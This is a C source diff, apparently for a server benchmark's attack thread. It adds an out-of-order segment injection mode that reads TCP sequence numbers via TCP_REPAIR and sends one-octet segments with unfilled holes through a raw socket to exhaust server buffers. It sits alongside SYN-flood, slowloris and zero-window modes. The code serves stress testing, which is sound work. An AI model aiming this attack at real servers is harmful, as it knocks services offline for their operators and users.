@@ -6,7 +6,8 @@
  * its pressure up the way a real one does.
  *
  * syn-flood needs no connection: its SYNs go out of one raw socket from
- * the scan.
+ * the scan; ooo injects its segments into kernel connections through the
+ * same raw socket.
  *
  * The thread ends when the main thread sets run->attack_stop (the
  * legitimate load is over), at the hard deadline or on abort; whatever it
@@ -246,6 +247,57 @@ static int zw_write(struct ka *k, struct ac *c, uint64_t now)
 	return 0;
 }
 
+/*
+ * ooo: read our next sequence number and the server's from the kernel
+ * (TCP_REPAIR, briefly), then inject one-octet segments at every other
+ * octet past the next expected one: the hole is never filled, so the server
+ * holds them all. The kernel socket stays as it was and keeps reading.
+ */
+static int ooo_inject(struct ka *k, struct ac *c)
+{
+	struct bench_atk_stats *st = st_of(k, c);
+	struct sockaddr_in l, r;
+	socklen_t ll = sizeof(l), rl = sizeof(r), sl = sizeof(uint32_t);
+	uint32_t snd = 0, rcv = 0;
+	int on = 1, off = TCP_REPAIR_OFF, q;
+	uint8_t pkt[BENCH_ATK_SEG_LEN];
+
+	if (k->raw < 0) {
+		ka_err(k, c, "ooo: no raw socket (needs CAP_NET_RAW)", 0);
+		return -1;
+	}
+	if (getsockname(c->fd, (struct sockaddr *)&l, &ll) < 0 ||
+	    getpeername(c->fd, (struct sockaddr *)&r, &rl) < 0 || l.sin_family != AF_INET) {
+		ka_err(k, c, "ooo: addresses", errno);
+		return -1;
+	}
+	if (setsockopt(c->fd, IPPROTO_TCP, TCP_REPAIR, &on, sizeof(on)) < 0) {
+		ka_err(k, c, "ooo: TCP_REPAIR (needs CAP_NET_ADMIN)", errno);
+		return -1;
+	}
+	q = TCP_SEND_QUEUE;
+	setsockopt(c->fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, &q, sizeof(q));
+	getsockopt(c->fd, IPPROTO_TCP, TCP_QUEUE_SEQ, &snd, &sl);
+	q = TCP_RECV_QUEUE;
+	setsockopt(c->fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, &q, sizeof(q));
+	sl = sizeof(uint32_t);
+	getsockopt(c->fd, IPPROTO_TCP, TCP_QUEUE_SEQ, &rcv, &sl);
+	setsockopt(c->fd, IPPROTO_TCP, TCP_REPAIR, &off, sizeof(off));
+	for (unsigned i = 0; i < k->ac->ooo_segs; i++) {
+		size_t len = bench_atk_seg_build(pkt, l.sin_addr.s_addr, r.sin_addr.s_addr,
+						 l.sin_port, r.sin_port, snd + 1 + 2 * i, rcv,
+						 bench_atk_slow_byte(i), (uint16_t)i);
+
+		if (sendto(k->raw, pkt, len, 0, (const struct sockaddr *)&r, sizeof(r)) < 0) {
+			ka_err(k, c, "ooo: raw send", errno);
+			break;
+		}
+		st->cmds_sent++;
+		st->bytes_sent++;
+	}
+	return 0;
+}
+
 static void do_act(struct ka *k, struct ac *c, enum bench_atk_act act, uint64_t now)
 {
 	switch (act) {
@@ -264,6 +316,11 @@ static void do_act(struct ka *k, struct ac *c, enum bench_atk_act act, uint64_t 
 		c->deadline = 0;
 		if (c->mode == BENCH_ATK_SLOWLORIS) {
 			c->t_slow0 = now;
+		} else if (c->mode == BENCH_ATK_OOO) {
+			if (ooo_inject(k, c) < 0) {
+				closed_by_us(k, c, NULL);
+				return;
+			}
 		} else if (c->mode == BENCH_ATK_ZERO_WINDOW) {
 			c->reading = false; /* never again: the window closes */
 			if (zw_write(k, c, now) < 0)
@@ -455,7 +512,7 @@ static void syn_tick(struct ka *k, uint64_t now)
 
 static void scan(struct ka *k, uint64_t now)
 {
-	if (k->raw >= 0)
+	if (k->raw >= 0 && (k->ac->modes & (1u << BENCH_ATK_SYN_FLOOD)))
 		syn_tick(k, now);
 	for (unsigned i = 0; i < k->n; i++) {
 		struct ac *c = &k->c[i];
@@ -536,15 +593,16 @@ void *bench_kattack_main(void *arg)
 		if (!(k->ac->modes & (1u << m)))
 			continue;
 		bench_atk_pace_init(&k->pace[m], k->ac->rate, k->ac->total, now);
-		if (m == BENCH_ATK_SYN_FLOOD) {
+		if ((m == BENCH_ATK_SYN_FLOOD || m == BENCH_ATK_OOO) && k->raw < 0) {
 			/* IPPROTO_RAW: we write the IP header (IP_HDRINCL). */
 			k->raw = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC,
 					IPPROTO_RAW);
 			if (k->raw < 0)
 				snprintf(a->st[m].last_err, sizeof(a->st[m].last_err),
 					 "raw socket (needs CAP_NET_RAW): %s", strerror(errno));
-			continue;
 		}
+		if (m == BENCH_ATK_SYN_FLOOD)
+			continue;
 		for (unsigned j = 0; j < k->ac->conns; j++, slot++) {
 			k->c[slot].fd = -1;
 			k->c[slot].mode = (enum bench_atk_mode)m;
